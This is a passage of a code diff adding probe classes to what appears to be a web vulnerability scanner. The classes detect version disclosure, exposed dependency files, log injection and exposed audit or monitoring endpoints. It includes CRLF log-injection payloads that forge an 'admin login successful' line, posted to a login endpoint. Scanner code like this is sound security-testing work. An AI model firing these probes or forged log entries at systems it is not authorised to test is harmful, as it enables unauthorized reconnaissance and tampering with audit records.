+                            "test_type": "python_pickle"
+                        }
+                    )
+        except ScanCancelledError:
+            raise
+        except Exception as e:
+            logger.error(f"🌸 Aurora: Python pickle test error: {e}")
+
+        return None
+
+class KnownVulnerabilitiesAttack(DeclarativeAttackVector):
+    """Known Vulnerabilities attack vector with consciousness integration."""
+
+    # Version information in responses
+    VERSION_PATTERNS = [
+        r"Apache/\d+\.\d+",
+        r"nginx/\d+\.\d+",
+        r"PHP/\d+\.\d+",
+        r"Python/\d+\.\d+",
+        r"Node\.js/\d+\.\d+",
+        r"Express/\d+\.\d+",
+        r"Django/\d+\.\d+",
+        r"Flask/\d+\.\d+"
+    ]
+
+    DEPENDENCY_FILES = [
+        "/package.json",
+        "/requirements.txt",
+        "/composer.json",
+        "/pom.xml",
+        "/build.gradle"
+    ]
+
+    PROBES = (
+        [ProbeSpec('GET', '/', '_detect_version_disclosure'),
+         ProbeSpec('GET', '/', '_detect_vulnerable_component')]
+        + [ProbeSpec('GET', dep_file, '_detect_dependency_file', soft_404=True) for dep_file in DEPENDENCY_FILES]
+    )
+
+    def _detect_version_disclosure(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect version disclosure vulnerabilities."""
+        import re
+        for pattern in self.VERSION_PATTERNS:
+            if re.search(pattern, response.text):
+                return self._create_vulnerability_result(
+                    vulnerability_type="version_disclosure",
+                    severity="low",
+                    description=f"Version disclosure vulnerability detected",
+                    evidence={
+                        "pattern": pattern,
+                        "response_status": response.status_code,
+                        "test_type": "version_disclosure"
+                    }
+                )
+
+        return None
+
+    def _detect_vulnerable_component(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect known vulnerable components."""
+        matched_indicators = VULNERABLE_COMPONENTS.match_response(response)
+
+        if matched_indicators:
+            component = matched_indicators[0]
+            return self._create_vulnerability_result(
+                vulnerability_type="cve_scanning",
+                severity="high",
+                description=f"Potentially vulnerable component detected: {component}",
+                evidence={
+                    "component": component,
+                    "response_status": response.status_code,
+                    "test_type": "cve_scanning",
+                    "matched_indicators": matched_indicators
+                }
+            )
+
+        return None
+
+    def _detect_dependency_file(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect exposed dependency files."""
+        if response.status_code == 200:
+            return self._create_vulnerability_result(
+                vulnerability_type="dependency_check",
+                severity="medium",
+                description=f"Dependency file exposed: {probe.path}",
+                evidence={
+                    "dependency_file": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "dependency_check"
+                }
+            )
+
+        return None
+
+class InsufficientLoggingAttack(DeclarativeAttackVector):
+    """Insufficient Logging attack vector with consciousness integration."""
+
+    LOG_PAYLOADS = [
+        "test\nadmin login successful",
+        "test\r\nadmin login successful",
+        "test%0Aadmin login successful",
+        "test%0D%0Aadmin login successful"
+    ]
+
+    AUDIT_ENDPOINTS = ["/logs", "/audit", "/api/logs", "/admin/logs"]
+    MONITORING_ENDPOINTS = ["/metrics", "/health", "/status", "/monitoring"]
+
+    PROBES = (
+        [ProbeSpec('POST', '/api/login', '_detect_log_injection', json={"username": payload, "password": "test"},
+                   soft_404=True)
+         for payload in LOG_PAYLOADS]
+        + [ProbeSpec('GET', endpoint, '_detect_audit_trail', soft_404=True) for endpoint in AUDIT_ENDPOINTS]
+        + [ProbeSpec('GET', endpoint, '_detect_monitoring_gap', soft_404=True) for endpoint in MONITORING_ENDPOINTS]
+    )
+
+    def _detect_log_injection(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect log injection vulnerabilities."""
+        if response.status_code == 200:
+            payload = probe.json["username"]
+            return self._create_vulnerability_result(
+                vulnerability_type="log_injection",
+                severity="medium",
+                description=f"Log injection vulnerability with payload: {payload}",
+                evidence={
+                    "payload": payload,
+                    "response_status": response.status_code,
+                    "test_type": "log_injection"
+                }
+            )
+
+        return None
+
+    def _detect_audit_trail(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect accessible audit logs."""
+        if response.status_code == 200:
+            return self._create_vulnerability_result(
+                vulnerability_type="audit_trail",
+                severity="medium",
+                description=f"Audit trail exposed at {probe.path}",
+                evidence={
+                    "endpoint": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "audit_trail_check"
+                }
+            )
+
+        return None
+
+    def _detect_monitoring_gap(self, probe: ProbeSpec, response) -> Optional[VulnerabilityResult]:
+        """Detect accessible monitoring endpoints."""
+        if response.status_code == 200:
+            return self._create_vulnerability_result(
+                vulnerability_type="monitoring_gaps",
+                severity="low",
+                description=f"Monitoring endpoint exposed at {probe.path}",
+                evidence={
+                    "endpoint": probe.path,
+                    "response_status": response.status_code,
+                    "test_type": "monitoring_gaps"
+                }
+            )
+
+        return None